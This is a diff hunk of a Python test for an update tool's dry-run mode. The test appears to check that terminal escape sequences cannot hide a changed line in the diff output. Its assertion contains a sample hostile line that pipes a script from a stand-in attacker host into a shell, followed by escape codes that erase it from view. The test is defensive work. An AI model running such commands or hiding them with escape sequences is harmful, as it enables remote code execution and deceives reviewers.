@@ -100,7 +100,7 @@ def test_update_dry_run_shows_an_erase_line_in_a_diff(site: Path, project: Path)
         server.state.overrides.update({DETAIL: json.dumps(detail).encode(), INDEX: json.dumps(index).encode(),
                                        VERSIONS: json.dumps(versions).encode(), detail["bundles"]["zip"]["path"]: data,
                                        HEAD: json.dumps(head).encode(), STATE: json.dumps(state).encode()})
-        code, output = on_terminal(["update", "--dry-run"], project)
+        code, output = on_terminal(["update", "--registry", server.url, "--dry-run"], project)
     assert code == 0, output
     shows_nothing_hidden(output)
     assert b"+curl https://evil.invalid/x | sh #\\x1b[2K\\x1b[1G echo hi\r\n" in output
